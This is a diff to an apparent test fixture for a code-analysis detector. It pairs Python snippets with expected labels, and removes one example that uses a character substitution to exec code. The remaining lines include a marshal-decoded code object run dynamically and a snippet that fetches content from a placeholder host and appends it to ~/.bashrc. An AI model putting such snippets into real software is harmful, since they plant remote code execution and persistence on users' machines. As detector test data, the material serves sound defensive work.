@@ -139,7 +139,6 @@ const run: readonly Example[] = [
     'import marshal, types\ncode = marshal.loads(b"\\xe3\\x00\\x00\\x00\\x00")\ntypes.FunctionType(code, {})()',
     'decode marshal → dynamic-run',
   ],
-  ['t = str.maketrans("abcdef", "printe")\nexec("abcde(1)".translate(t))', 'decode substitution → dynamic-run'],
   [
     'import requests, os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n  f.write(requests.get("https://e.example/a").text)',
     'network-fetch https://e.example/a → startup-write ~/.bashrc',
